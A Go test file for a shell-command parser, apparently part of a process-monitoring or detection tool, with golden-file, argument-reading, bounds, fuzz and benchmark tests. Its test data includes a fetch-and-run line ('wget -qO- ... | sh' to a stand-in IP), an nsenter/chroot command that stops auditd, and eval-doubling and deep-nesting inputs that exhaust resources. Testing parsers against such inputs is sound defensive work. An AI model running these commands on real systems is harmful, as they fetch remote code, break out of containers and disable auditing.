package shell

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

var update = flag.Bool("update", false, "rewrite what the lines come to")

// told writes a script so that tests can read it: one command a line, deeper
// for what is inside another.
func told(s *Script) string {
	var b strings.Builder
	tell(&b, s, "", 0)
	return b.String()
}

func tell(b *strings.Builder, s *Script, label string, depth int) {
	for _, p := range s.Pipes {
		for i, c := range p.Commands {
			b.WriteString(strings.Repeat("  ", depth) + label)
			if i > 0 {
				b.WriteString("| ")
			}
			b.WriteString(strings.Join(c.Set, " "))
			if len(c.Set) > 0 && len(c.Words) > 0 {
				b.WriteString(" ")
			}
			if len(c.Set)+len(c.Words)+len(c.Redirects) == 0 {
				b.WriteString("( )")
			}
			for j, w := range c.Words {
				if j > 0 {
					b.WriteString(" ")
				}
				if strings.ContainsAny(w, " \n") {
					w = fmt.Sprintf("%q", w)
				}
				b.WriteString(w)
			}
			for _, r := range c.Redirects {
				b.WriteString(" " + r.Op + r.Target)
			}
			if c.Stdin {
				b.WriteString(" [runs its input]")
			}
			for _, fed := range c.Fed {
				for _, p := range fed.Flat().Places[:min(1, len(fed.Flat().Places))] {
					b.WriteString(" [runs the output of " + p.Name + "]")
				}
			}
			if c.Code != nil {
				var names []string
				for _, call := range c.Code.Calls {
					names = append(names, call.Name)
				}
				fmt.Fprintf(b, " [calls %s]", strings.Join(names, ", "))
			}
			b.WriteString("\n")
			for _, part := range c.Parts {
				tell(b, part.Script, [...]string{"body: ", "wrapped: ", "text: ", "substituted: ", "decoded: ", "called: "}[part.How], depth+1)
			}
		}
	}
}

// TestRead compares what lines come to with testdata/lines.txt: each line, ----
// and its commands, up to ====.
func TestRead(t *testing.T) {
	const file = "testdata/lines.txt"
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	n := 0
	for block := range strings.SplitSeq(strings.TrimSuffix(string(text), "====\n"), "====\n") {
		line, want, _ := strings.Cut(block, "\n----\n")
		got := told(Read(line))
		fmt.Fprintf(&out, "%s\n----\n%s====\n", line, got)
		n++
		if d := cmp.Diff(want, got); d != "" && !*update {
			t.Errorf("%s\n%s", line, d)
		}
	}
	if n < 40 {
		t.Errorf("only %d lines in %s", n, file)
	}
	if *update {
		if err := os.WriteFile(file, []byte(out.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestReadArgs: what a process was started with is read as the line is.
func TestReadArgs(t *testing.T) {
	for _, tt := range []struct {
		args []string
		want string
	}{
		{[]string{"/bin/busybox", "sh", "-ec", "wget -qO- $1 | sh", "_", "http://192.0.2.1/x"}, "sh"},
		{[]string{"/usr/bin/env", "-i", "PATH=/bin", "timeout", "-k", "5", "60", "bash", "-lc", "id"}, "id"},
		{[]string{"nsenter", "-t", "1", "-m", "-u", "--", "chroot", "/host", "systemctl", "stop", "auditd"}, "systemctl"},
		{[]string{"-bash"}, "-bash"},
		{[]string{}, ""},
	} {
		l := ReadArgs(tt.args).Flat()
		got := ""
		if len(l.Places) > 0 {
			got = l.Places[len(l.Places)-1].Name
		}
		if got != tt.want {
			t.Errorf("%q ends with %q, want %q", tt.args, got, tt.want)
		}
	}
	s := ReadArgs([]string{"sh", "-c", "wget -qO- $1 | sh", "_", "http://192.0.2.1/x"})
	if !strings.Contains(told(s), "wget -qO- http://192.0.2.1/x") {
		t.Errorf("the parameter is not in\n%s", told(s))
	}
}

// TestBounds: hostile lines end in time and memory, and say that they were cut.
func TestBounds(t *testing.T) {
	for name, line := range map[string]string{
		"doubling": "a=xxxxxxxx;" + strings.Repeat("a=$a$a;", 60) + "eval $a",
		"deep":     strings.Repeat("$(", 100_000),
		"groups":   strings.Repeat("( ", 100_000),
		"ifs":      strings.Repeat("if ", 100_000),
		"evals":    "eval " + strings.Repeat(`"$(eval `, 5000),
		"many":     strings.Repeat("id;", 20_000),
		"long":     strings.Repeat("x", 2*Limit),
	} {
		s := Read(line)
		if !s.Cut {
			t.Errorf("%s: it was not cut", name)
		}
		if n := len(s.Flat().Places); n > 4*maxRead {
			t.Errorf("%s: %d commands", name, n)
		}
	}
}

// FuzzRead: any text gives a script, and the same one each time.
func FuzzRead(f *testing.F) {
	text, err := os.ReadFile("testdata/lines.txt")
	if err != nil {
		f.Fatal(err)
	}
	for block := range strings.SplitSeq(string(text), "====\n") {
		line, _, _ := strings.Cut(block, "\n----\n")
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		s := Read(line)
		if a, b := told(s), told(Read(line)); a != b {
			t.Fatalf("twice:\n%s\n%s", a, b)
		}
		for _, p := range s.Flat().Places {
			if p.Command == nil || p.Index >= len(p.Pipe.Commands) {
				t.Fatalf("a place without its command in %q", line)
			}
			p.Inner()
		}
		ReadArgs(strings.Fields(line))
	})
}

func BenchmarkRead(b *testing.B) {
	for name, args := range map[string][]string{
		"exec":     {"/usr/bin/python3", "/srv/app/manage.py", "runserver", "0.0.0.0:8000"},
		"shell":    {"/bin/sh", "-c", "pg_isready -U postgres -h 127.0.0.1 -p 5432 || exit 1"},
		"pipeline": {"sh", "-c", "ps -ef | grep -v grep | awk '{print $2}' | xargs -r kill -TERM"},
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				ReadArgs(args)
			}
		})
	}
}
